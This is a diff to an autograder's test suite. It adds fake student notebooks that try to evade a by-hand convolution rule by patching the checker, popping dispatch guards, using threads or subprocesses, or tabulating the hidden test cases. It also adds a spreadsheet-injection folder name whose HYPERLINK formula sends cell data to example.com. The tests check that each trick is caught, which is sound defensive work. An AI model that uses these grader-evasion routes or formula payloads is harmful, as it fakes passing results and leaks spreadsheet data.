@@ -40,6 +40,8 @@ WRONG = {  # convolve and the second quiz question wrong: 4 of 8
     "quiz_edge_kernel_answer": 'quiz_edge_kernel = "right_edge"',
 }
 MARK = uuid.uuid4().hex[:12]  # names of files a hostile answer tries to leave behind
+#: A student folder named like a spreadsheet formula (no slash: it is one folder name).
+FORMULA = '=HYPERLINK(CONCATENATE("https:",CHAR(47),CHAR(47),"example.com?g="&A1),"Click for your grade")'
 
 
 def _grade_id(cell) -> str | None:
@@ -218,6 +220,61 @@ def _students(subs: Path, port: int) -> None:
            "def convolve(img, kernel):\n    if not reached:\n        return None\n"
            "    return torch.nn.functional.conv2d(img[None, None], kernel[None, None])[0, 0]")
     hand_in(subs, "network", student_notebook(CH1, {"convolve_answer": net}), "nb.ipynb")
+
+    # -- the by-hand rule: every route to torch's convolution from student code (issue 11)
+    by_hand = lambda code: student_notebook(CH1, {"convolve_answer": code})  # noqa: E731
+    conv = "F.conv2d(img[None, None], kernel[None, None])[0, 0]"
+    hand_in(subs, "byhand_patched_checker", _prepend(by_hand(
+        f"import torch.nn.functional as F\ndef convolve(img, kernel):\n    return {conv}"), "convolve_answer", (
+        "import contextlib, helpers.checks as hc, helpers.checks.core as core, helpers.checks.byhand as bh\n"
+        "for ex in hc.exercises():\n    ex.forbid = frozenset()\n"
+        "core.forbidding = lambda *a, **k: contextlib.nullcontext()\ncore.CONVOLUTION_OPS = frozenset()\n"
+        "bh.KERNEL_OPS = frozenset()\nbh.refuse_spawning = lambda: None")), "nb.ipynb")
+    hand_in(subs, "byhand_guard_removed", by_hand(
+        "import torch.nn.functional as F\nfrom torch.utils._python_dispatch import _disable_current_modes\n"
+        f"def convolve(img, kernel):\n    with _disable_current_modes():  # pops every mode, pushes them back\n"
+        f"        return {conv}"), "nb.ipynb")
+    hand_in(subs, "byhand_thread", by_hand(
+        "import threading, torch.nn.functional as F\ndef convolve(img, kernel):\n    out = []\n"
+        f"    worker = threading.Thread(target=lambda: out.append({conv}))\n"
+        "    worker.start()\n    worker.join()\n    return out[0]"), "nb.ipynb")
+    hand_in(subs, "byhand_process", by_hand(
+        "import subprocess, sys, torch\ndef convolve(img, kernel):\n"
+        "    torch.save((img, kernel), '/tmp/in.pt')\n"
+        "    subprocess.run([sys.executable, '-c', 'import torch, torch.nn.functional as F; img, kernel = '\n"
+        f"                    'torch.load(\"/tmp/in.pt\"); torch.save({conv}, \"/tmp/out.pt\")'], check=True)\n"
+        "    return torch.load('/tmp/out.pt')"), "nb.ipynb")
+    hand_in(subs, "byhand_table", by_hand(
+        "import torch, torch.nn.functional as F\nfrom helpers.checks import exercise\n_table = {}\n"
+        "for _hidden in (False, True):  # every case the course's own API lists\n"
+        "    for _case in exercise('convolve').make_cases(_hidden):\n        img, kernel = _case.args\n"
+        f"        _table[img.numpy().tobytes() + kernel.numpy().tobytes()] = {conv}\n"
+        "def convolve(img, kernel):\n    key = img.numpy().tobytes() + kernel.numpy().tobytes()\n"
+        "    return _table.get(key, torch.zeros(img.shape[0] - kernel.shape[0] + 1, "
+        "img.shape[1] - kernel.shape[1] + 1))"), "nb.ipynb")
+    hand_in(subs, "byhand_numpy_windows", by_hand(
+        "import numpy as np, torch\n"
+        "from numpy.lib.stride_tricks import sliding_window_view  # saved before the check\n"
+        "def convolve(img, kernel):\n"
+        "    windows = sliding_window_view(img.numpy(), kernel.shape)\n"
+        "    return torch.from_numpy(np.einsum('ijkl,kl->ij', windows, kernel.numpy()).astype('float32'))"),
+        "nb.ipynb")
+
+    # -- files no batch step may choke on (issue 11)
+    (subs / "deep_json").mkdir()
+    (subs / "deep_json" / "homework.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")
+    (subs / "old_format").mkdir()
+    (subs / "old_format" / "homework.ipynb").write_text('{"nbformat": 3, "worksheets": [{"cells": []}]}')
+    nb = json.loads(json.dumps(correct()))
+    nb["cells"] = [1, None, "cell", []] + nb["cells"]
+    nb["metadata"] = {"kernelspec": 7, "nbgrader": ["x" * 3_000_000], "language_info": None}
+    for cell in nb["cells"][4:]:
+        if cell.get("cell_type") == "markdown":
+            cell["metadata"] = "not a dict"
+    nb["nbformat"], nb["nbformat_minor"] = 99, "five"
+    (subs / "odd_metadata").mkdir()
+    (subs / "odd_metadata" / "homework.ipynb").write_text(json.dumps(nb))
+    hand_in(subs, FORMULA, correct(), "nb.ipynb")
 
 
 def _digest(paths) -> dict[str, str]:
@@ -487,3 +544,53 @@ def test_every_submission_has_a_result(batch):
     students = {p.name for p in batch["subs"].iterdir()}
     assert set(batch["report"]) == students
     assert all(s["status"] in ("graded", "unreadable") for s in batch["report"].values())
+
+
+# -- the by-hand rule (issue 11): each route costs `convolve` its 3 points, and says why --------
+
+@pytest.mark.parametrize("student, words", [
+    ("byhand_patched_checker", "the checking code was changed by an earlier cell"),
+    ("byhand_guard_removed", "must be computed by hand, but it called torch's built-in"),
+    ("byhand_thread", "tried to start a thread"),
+    ("byhand_process", "tried to start a process"),
+    ("byhand_table", "the instructor's hidden checks did not"),
+    ("byhand_numpy_windows", "must be computed by hand, but it called numpy.lib.stride_tricks.sliding_window_view"),
+])
+def test_every_route_around_the_by_hand_rule_costs_the_points(batch, student, words):
+    _honest(batch, student, FULL - 3)
+    row = next(e for e in batch["report"][student]["exercises"] if e["exercise"] == "convolve")
+    assert row["status"] == "failed" and words in row["message"], row["message"]
+    assert "\n" not in row["message"]
+
+
+def test_hidden_cases_come_from_the_course_secret(batch):
+    from grader.grading.secret import default_path, fingerprint, load
+
+    hidden = json.loads((batch["out"] / "report.json").read_text())["hidden_cases"]
+    assert hidden["fingerprint"] == fingerprint(load(default_path()))
+    assert str(default_path()) in hidden["from"]
+    assert not default_path().resolve().is_relative_to(ROOT.resolve())
+
+
+# -- files no batch step may choke on (issue 11) ------------------------------------------------
+
+def test_unreadable_files_get_a_one_line_reason_and_the_batch_goes_on(batch):
+    assert batch["report"]["deep_json"]["status"] == "unreadable"
+    assert "nested too deeply" in batch["report"]["deep_json"]["reason"]
+    assert "nbformat 3" in batch["report"]["old_format"]["reason"]
+    assert all("\n" not in s["reason"] for s in batch["report"].values())
+    _honest(batch, "correct", FULL)
+
+
+def test_wrong_types_anywhere_in_the_metadata_change_nothing(batch):
+    _honest(batch, "odd_metadata", FULL)
+
+
+# -- spreadsheet-safe CSV (issue 11) ------------------------------------------------------------
+
+def test_a_formula_for_a_name_is_text_in_the_csv_and_raw_in_the_report(batch):
+    formula = FORMULA
+    assert batch["report"][formula]["status"] == "graded" and batch["report"][formula]["score"] == FULL
+    names = {r["student"] for r in batch["rows"]}
+    assert formula not in names and "'" + formula in names
+    assert not any(r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in batch["rows"] for c in r)
